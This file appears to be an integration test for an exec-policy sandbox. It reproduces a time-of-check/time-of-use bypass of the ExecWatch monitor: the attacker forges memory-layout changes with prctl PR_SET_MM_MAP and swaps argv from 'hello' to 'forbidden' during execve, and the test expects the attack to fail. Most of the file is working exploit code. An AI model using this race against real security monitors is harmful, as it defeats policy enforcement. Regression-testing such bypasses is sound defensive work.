# Attack (review 5, fixed): ExecWatch's "new memory" is forged with prctl(PR_SET_MM, PR_SET_MM_MAP), which
# needs no capability when exe_fd is left alone (shown as uid 65534 with no capabilities: endcode
# changed). ExecWatch::before reads startcode/endcode/startstack before the freeze; a second thread
# of the caller keeps toggling endcode by 16 bytes with PR_SET_MM_MAP while flipping argv[1]
# between "hello" and "forbidden". When the freeze stops it with the other endcode, the first poll
# of wait_exec sees "new memory" and lets it go at once, while the caller (SCHED_IDLE: it waits for
# a CPU after the answer) has not yet copied argv; the thread then rewrites argv under the kernel's
# copy (a 2000-string environment is copied first; R5_HOGS=n adds busy processes that share nothing,
# at most 20 s; not needed on the loaded test VM). Mode "noprctl" is the control: the same flipping without the layout toggling.
# Output: forbidden_printed = echo printed "forbidden" (its exec was judged and re-checked with "hello").
# irongate: {"args": ["--profile", "trusted", "--policy", "{ROOT}/integration/policies/bypass_trusted.json"], "exit": 0, "timeout": 180, "stdout": ["forbidden_printed=0 "]}
# no-event: {"decision": "allow", "action": {"type": "process", "argv": ["echo", "forbidden"]}}
import ctypes, os, select, struct, sys, threading, time
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.sbrk.restype = ctypes.c_void_p
libc.prctl.argtypes = [ctypes.c_int, ctypes.c_ulong, ctypes.c_void_p, ctypes.c_ulong, ctypes.c_ulong]
libc.syscall.restype = ctypes.c_long
MAP_PRIVATE, MAP_ANON, MAP_FIXED_NOREPLACE = 0x02, 0x20, 0x100000
B = 0x7e0000000000
ATTEMPTS = int(sys.argv[1]) if len(sys.argv) > 1 else 100
MODE = sys.argv[2] if len(sys.argv) > 2 else "prctl"
IDLE = os.environ.get("R5_IDLE", "1") == "1"
ENV = int(os.environ.get("R5_ENV", "2000"))  # environment strings copied before argv
HOGS = int(os.environ.get("R5_HOGS", "0"))  # optional busy processes sharing nothing (bounded); not needed here


def mm_maps():
    s = open("/proc/self/stat").read().rsplit(")", 1)[1].split()
    f = [0] + [int(x) for x in s[1:]]
    brk = libc.sbrk(0)
    def m(end_code):
        return ctypes.create_string_buffer(struct.pack(
            "<11QQII", f[23], end_code, f[42], f[43], f[44], brk, f[25], f[45], f[46], f[47], f[48],
            0, 0, 0xffffffff))
    return m(f[24]), m(f[24] - 16)


def child(w_out):
    os.dup2(w_out, 1)
    os.dup2(w_out, 2)
    if libc.mmap(B, 0x8000 + ENV * 256 + 0x1000, 3, MAP_PRIVATE | MAP_ANON | MAP_FIXED_NOREPLACE, -1, 0) != B:
        os.write(1, b"MMAP-FAILED\n")
        os._exit(1)
    word = B + 0x1000
    ctypes.memmove(word, b"hello\0\0\0\0\0\0\0", 12)
    ctypes.memmove(B + 0x1100, b"echo\0", 5)
    ctypes.memmove(B + 0x1200, b"/usr/bin/echo\0", 14)
    argv = (ctypes.c_uint64 * 3).from_address(B + 0x2000)
    argv[0], argv[1], argv[2] = B + 0x1100, word, 0
    envp = (ctypes.c_uint64 * (ENV + 1)).from_address(B + 0x3000)
    for k in range(ENV):
        at = B + 0x8000 + k * 256
        ctypes.memmove(at, b"V%05d=" % k + b"x" * 240 + b"\0", 248)
        envp[k] = at
    envp[ENV] = 0
    a, b = mm_maps()
    size = len(a.raw) - 1  # create_string_buffer adds a NUL; the kernel wants sizeof exactly
    toggle = MODE == "prctl"
    bad = [0]
    started = threading.Event()

    def flipper():
        started.set()
        memmove, prctl = ctypes.memmove, libc.prctl
        for _ in range(300000):
            # (b, hello) then (a, forbidden): stopped where argv reads "hello" (what passes the
            # re-check), the layout is mostly b; the one read before the freeze is either.
            if toggle and prctl(35, 14, b, size, 0) != 0:
                bad[0] += 1
            memmove(word, b"hello\0\0\0\0\0", 10)
            if toggle and prctl(35, 14, a, size, 0) != 0:
                bad[0] += 1
            memmove(word, b"forbidden\0", 10)
    t = threading.Thread(target=flipper, daemon=True)
    t.start()
    started.wait()
    time.sleep(0.002)
    if IDLE:
        os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    libc.syscall(59, ctypes.c_uint64(B + 0x1200), ctypes.c_uint64(B + 0x2000), ctypes.c_uint64(B + 0x3000))
    os.write(1, b"EXECVE-FAILED errno=%d prctl_failures=%d\n" % (ctypes.get_errno(), bad[0]))
    os._exit(1)


hogs = []
for _ in range(HOGS):
    h = os.fork()
    if h == 0:
        end = time.monotonic() + 20
        while time.monotonic() < end:
            pass
        os._exit(0)
    hogs.append(h)
HAMMER = int(os.environ.get("R5_HAMMER", "0"))  # threads of another process in notified calls
if HAMMER:
    h = os.fork()
    if h == 0:
        def hammer():
            end = time.monotonic() + 20
            while time.monotonic() < end:
                os.close(os.open("/dev/null", os.O_RDONLY))
        ts = [threading.Thread(target=hammer) for _ in range(HAMMER)]
        for t in ts:
            t.start()
        for t in ts:
            t.join()
        os._exit(0)
    hogs.append(h)
counts = {"forbidden": 0, "hello": 0, "failed": 0, "other": 0}
seq = []
t0 = time.time()
for i in range(ATTEMPTS):
    r_out, w_out = os.pipe()
    p = os.fork()
    if p == 0:
        os.close(r_out)
        child(w_out)
    os.close(w_out)
    out = b""
    end = time.monotonic() + 5
    while time.monotonic() < end:
        rd, _, _ = select.select([r_out], [], [], max(0.0, end - time.monotonic()))
        if not rd:
            break
        chunk = os.read(r_out, 65536)
        if not chunk:
            break
        out += chunk
        if b"\n" in out:
            break
    os.close(r_out)
    try:
        os.kill(p, 9)
    except OSError:
        pass
    _, st = os.waitpid(p, 0)
    key = "failed" if b"EXECVE-FAILED" in out else ("forbidden" if b"forbidden" in out else
                                                    ("hello" if b"hello" in out else "other"))
    counts[key] += 1
    seq.append({"forbidden": "F", "hello": "h", "failed": "x"}.get(key, "?"))
    if key == "other" and counts["other"] <= 3:
        print("other sample:", out[:120], "status", st, flush=True)
    if time.time() - t0 > 18:
        break
for h in hogs:
    os.kill(h, 9)
    os.waitpid(h, 0)
print(f"mode={MODE} attempts={sum(counts.values())} forbidden_printed={counts['forbidden']} "
      f"hello={counts['hello']} execve_failed={counts['failed']} other={counts['other']} "
      f"secs={time.time() - t0:.1f} seq={''.join(seq)}")
